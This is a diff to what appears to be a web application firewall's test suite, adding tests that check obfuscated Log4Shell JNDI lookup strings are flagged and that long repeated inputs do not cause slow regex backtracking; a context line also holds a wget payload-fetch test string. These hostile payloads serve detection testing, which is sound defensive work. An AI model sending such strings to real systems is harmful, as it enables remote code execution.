@@ -101,6 +101,25 @@ describe('rule families', () => {
   });
 });
 
+describe('code injection and pathological input', () => {
+  it('folds Log4Shell nested lookups', () => {
+    for (const s of ['${jndi:ldap://198.51.100.7/a}', '${${lower:j}ndi:ldap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}', '${JnDi:dns://x}']) {
+      expect(ids(waf().inspectString(s, 'x')), s).toContain('932130');
+    }
+    expect(ids(waf().inspectString('price ${amount} (net)', 'x'))).toEqual([]);
+  });
+
+  it('stays linear on long runs of the characters its patterns repeat', () => {
+    const w = waf(4);
+    const t0 = process.hrtime.bigint();
+    for (const s of ['.'.repeat(65536), '${'.repeat(8000), '${a:'.repeat(8000), '; a'.repeat(5000), 'a/'.repeat(8000), 'x'.repeat(65536)]) {
+      w.inspectPayload(Buffer.from(JSON.stringify({ s })));
+    }
+    // Quadratic backtracking on the 64 KiB run of dots alone took ≈ 9 s before it was fixed.
+    expect(Number(process.hrtime.bigint() - t0) / 1e6).toBeLessThan(2000);
+  });
+});
+
 describe('paranoia levels and scoring', () => {
   it('runs a rule only at or above its paranoia level', () => {
     const s = 'wget http://198.51.100.7/payload';
